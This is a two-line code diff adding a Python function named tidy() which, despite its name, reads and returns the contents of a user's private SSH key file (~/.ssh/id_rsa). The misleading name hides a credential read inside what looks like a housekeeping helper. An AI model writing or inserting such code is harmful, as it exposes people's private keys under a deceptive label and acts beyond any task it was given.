@@ -1,0 +1,2 @@
+def tidy():
+    return open("/home/somebody/.ssh/id_rsa").read()
